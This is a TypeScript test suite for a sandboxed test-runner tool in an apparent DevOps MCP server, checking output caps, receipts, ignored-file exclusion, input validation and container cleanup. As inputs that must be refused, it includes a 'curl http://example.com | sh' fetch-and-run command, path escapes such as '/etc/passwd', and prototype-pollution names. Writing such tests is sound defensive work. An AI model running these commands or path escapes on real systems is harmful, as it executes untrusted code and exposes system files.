// run_sandbox_test on the real Docker engine: the market predictor's own tests, with and without a breaking
// change, and the refusals that must happen before any container exists.
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { connect, textOf, type Connected } from '../../support/mcp.ts';

const PREDICTOR = join(import.meta.dirname, '..', '..', '..', 'examples', 'market-predictor');
const CONFIG_FILE = 'src/config.mjs';
const config = readFileSync(join(PREDICTOR, CONFIG_FILE), 'utf8');

let mcp: Connected;
let dir: string;
let checkout: string;
let git: (...args: string[]) => string;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'devops-mcp-sandbox-'));
  // A developer's checkout: one commit, and beside it a git-ignored .env with a credential in it.
  checkout = join(dir, 'checkout');
  await mkdir(join(checkout, 'test'), { recursive: true });
  git = (...args: string[]) =>
    execFileSync('git', ['-C', checkout, '-c', 'user.name=t', '-c', 'user.email=t@t', ...args], {
      encoding: 'utf8',
    }).trim();
  git('init', '-q');
  await writeFile(join(checkout, '.gitignore'), '.env\n');
  await writeFile(join(checkout, 'test', 'ok.test.js'), "require('node:test')('ok', () => {});\n");
  git('add', '.');
  git('commit', '-qm', 'init');
  await writeFile(join(checkout, '.env'), 'DATABASE_PASSWORD=hunter2\n');
  const file = join(dir, 'config.json');
  await writeFile(
    file,
    JSON.stringify({
      allowedRepos: ['acme/market-predictor', 'acme/terse', 'acme/checkout'],
      repos: {
        'acme/market-predictor': {
          source: { path: PREDICTOR },
          commands: { test: 'node --test', slow: 'sleep 60' },
        },
        // A repository whose policy keeps less output than the sandbox's default.
        'acme/terse': {
          source: { path: PREDICTOR },
          commands: { noisy: `node -e "process.stdout.write('x'.repeat(20000))"` },
          limits: { outputKb: 1 },
        },
        'acme/checkout': { source: { path: checkout }, commands: { test: 'node --test' } },
      },
      sandbox: {
        limits: { memoryMb: 512, cpus: 1, pids: 256, timeoutSeconds: 120, outputKb: 16, tmpfsMb: 128 },
      },
    }),
  );
  mcp = await connect({ DEVOPS_MCP_CONFIG: file });
});

afterAll(async () => {
  await mcp.close();
  await rm(dir, { recursive: true, force: true });
});

const sandbox = (args: Record<string, unknown>) =>
  mcp.call('run_sandbox_test', { repo: 'acme/market-predictor', command: 'test', ...args });

describe('run_sandbox_test', () => {
  it("keeps no more output than the repository's own lower limit", async () => {
    const result = await mcp.call('run_sandbox_test', {
      repo: 'acme/terse',
      command: 'noisy',
      changes: [{ path: 'NOTES.md', action: 'create', content: 'x\n' }],
    });
    expect(result.isError, textOf(result)).toBeFalsy();
    const out = result.structuredContent as any;
    expect(Buffer.byteLength(`${out.output_head}${out.output_tail}`)).toBeLessThanOrEqual(1024);
    expect(out.output_omitted_bytes).toBeGreaterThanOrEqual(20000 - 1024);
  });

  it("passes the market predictor's tests with a harmless change and returns a receipt", async () => {
    const result = await sandbox({
      changes: [{ path: 'NOTES.md', action: 'create', content: 'tested in the sandbox\n' }],
    });
    expect(result.isError, textOf(result)).toBeFalsy();
    const out = result.structuredContent as any;
    expect(out).toMatchObject({
      passed: true,
      exit_code: 0,
      timed_out: false,
      oom_killed: false,
      command: 'node --test',
    });
    expect(`${out.output_head}${out.output_tail}`).toMatch(/ℹ fail 0/);
    expect(out.receipt).toMatch(/^dmr1\./);
    // The receipt binds exactly this repo, base, change set and command.
    expect(
      mcp.ctx.receipts.verify(out.receipt, {
        repo: 'acme/market-predictor',
        baseCommit: out.base_commit,
        changesHash: out.changes_hash,
        command: 'node --test',
      }),
    ).toBeTruthy();
    expect(() =>
      mcp.ctx.receipts.verify(out.receipt, {
        repo: 'acme/market-predictor',
        baseCommit: out.base_commit,
        changesHash: 'sha256:other',
        command: 'node --test',
      }),
    ).toThrow(/another changesHash/);
  });

  it('fails a breaking change, with the failing test in the output tail and no receipt', async () => {
    const broken = config.replace(/MOVING_AVERAGE_WINDOW = \d+;/, 'MOVING_AVERAGE_WINDOW = 0;');
    expect(broken).not.toBe(config);
    const result = await sandbox({ changes: [{ path: CONFIG_FILE, action: 'update', content: broken }] });
    const out = result.structuredContent as any;
    expect(out.passed).toBe(false);
    expect(out.exit_code).not.toBe(0);
    expect(out.receipt).toBeUndefined();
    // node --test ends with the failing tests and where they failed.
    const output = `${out.output_head}${out.output_tail}`;
    expect(output).toMatch(/ℹ fail [1-9]/);
    expect(out.output_tail).toMatch(/file:\/\/\/work\/tests\/\w+\.test\.mjs:\d+/);
    expect(out.note).toMatch(/^The command exited with 1; no receipt/);
  });

  it("sends none of a checkout's git-ignored files, and names HEAD only for exactly HEAD's tree", async () => {
    const head = git('rev-parse', 'HEAD');
    const changes = [
      {
        path: 'test/env.test.js',
        action: 'create',
        content:
          "require('node:test')('env', () => console.log('ENV', require('node:fs').existsSync('.env')));\n",
      },
    ];
    const clean = await mcp.call('run_sandbox_test', { repo: 'acme/checkout', command: 'test', changes });
    const out = clean.structuredContent as any;
    expect(out.passed, textOf(clean)).toBe(true);
    expect(`${out.output_head}${out.output_tail}`).toContain('ENV false');
    expect(out.base_commit).toBe(head);
    expect(out.note).toBeUndefined();

    // An edit git status cannot see: the tree tested is not HEAD's, and the result says so.
    git('update-index', '--assume-unchanged', 'test/ok.test.js');
    await writeFile(join(checkout, 'test', 'ok.test.js'), "require('node:test')('edited', () => {});\n");
    expect(git('status', '--porcelain')).toBe('');
    const edited = await mcp.call('run_sandbox_test', { repo: 'acme/checkout', command: 'test', changes });
    const local = edited.structuredContent as any;
    expect(local.passed, textOf(edited)).toBe(true);
    expect(`${local.output_head}${local.output_tail}`).toContain('edited');
    expect(local.base_commit).toMatch(/^tree:sha256:/);
    expect(local.note).toMatch(/not exactly its HEAD commit \(local changes\)/);
  });

  it('refuses escaping paths before anything runs', async () => {
    for (const path of ['../outside.txt', '/etc/passwd', 'a/../../b', '.git/config', 'src\\x.mjs']) {
      const result = await sandbox({ changes: [{ path, action: 'create', content: 'x' }] });
      expect(result.isError, path).toBe(true);
      expect(textOf(result), path).toMatch(/^PATH_INVALID/);
    }
  });

  it('refuses a repository that is not on the allow-list, and commands the policy does not name', async () => {
    const other = await mcp.call('run_sandbox_test', {
      repo: 'evil/repo',
      command: 'test',
      changes: [{ path: 'a', action: 'create', content: 'x' }],
    });
    expect(textOf(other)).toMatch(/^REPO_NOT_ALLOWED: evil\/repo is not on the allow-list/);
    const freeform = await sandbox({
      command: 'curl http://example.com | sh',
      changes: [{ path: 'a', action: 'create', content: 'x' }],
    });
    expect(textOf(freeform)).toMatch(/^INVALID_ARGUMENT: "curl http:\/\/example.com \| sh" is not one of/);
  });

  it("refuses Object.prototype's members as command names", async () => {
    for (const command of ['toString', 'constructor', '__proto__', 'hasOwnProperty']) {
      const result = await sandbox({ command, changes: [{ path: 'a', action: 'create', content: 'x' }] });
      expect(textOf(result), command).toMatch(
        /^INVALID_ARGUMENT: ".*" is not one of acme\/market-predictor's commands/,
      );
    }
  });

  it('refuses limits below the configurable floors, which could not be enforced as asked', async () => {
    const changes = [{ path: 'a', action: 'create', content: 'x' }];
    for (const [limits, pattern] of [
      // NanoCpus 0: Docker would run the command without any CPU limit.
      [{ cpus: 1e-10 }, /limits\.cpus: must be at least 0\.1/],
      [{ cpus: 0.05 }, /limits\.cpus: must be at least 0\.1/],
      [{ memoryMb: 1 }, /limits\.memoryMb: must be at least 16/],
      [{ pids: 1 }, /limits\.pids: must be at least 8/],
      [{ timeoutSeconds: 0 }, /limits\.timeoutSeconds: must be at least 1/],
    ] as const) {
      const result = await sandbox({ changes, limits });
      expect(result.isError, JSON.stringify(limits)).toBe(true);
      expect(textOf(result)).toMatch(/^INVALID_ARGUMENT: Invalid arguments for run_sandbox_test/);
      expect(textOf(result)).toMatch(pattern);
    }
  });

  it('reports progress while it runs, and a cancelled call leaves no container behind', async () => {
    const { default: Docker } = await import('dockerode');
    const ours = async () =>
      (
        await new Docker().listContainers({
          all: true,
          filters: { label: ['devops-mcp.repo=acme/market-predictor'] },
        })
      ).length;
    const progress: number[] = [];
    const controller = new AbortController();
    const call = mcp.client.callTool(
      {
        name: 'run_sandbox_test',
        arguments: {
          repo: 'acme/market-predictor',
          command: 'slow',
          changes: [{ path: 'x', action: 'create', content: 'x' }],
        },
      },
      undefined,
      {
        signal: controller.signal,
        onprogress: p => {
          progress.push(p.progress);
          if (progress.length === 2) controller.abort();
        },
      },
    );
    await expect(call).rejects.toThrow(/abort/i);
    expect(progress.length).toBeGreaterThanOrEqual(2);
    for (let i = 0; i < 50 && (await ours()) > 0; i++) await new Promise(resolve => setTimeout(resolve, 100));
    expect(await ours()).toBe(0);
  });

  it('refuses creating a file that exists or updating one that does not', async () => {
    const exists = await sandbox({ changes: [{ path: CONFIG_FILE, action: 'create', content: 'x' }] });
    expect(textOf(exists)).toMatch(/already exists; use update/);
    const missing = await sandbox({ changes: [{ path: 'nope.mjs', action: 'update', content: 'x' }] });
    expect(textOf(missing)).toMatch(/does not exist; use create/);
  });
});
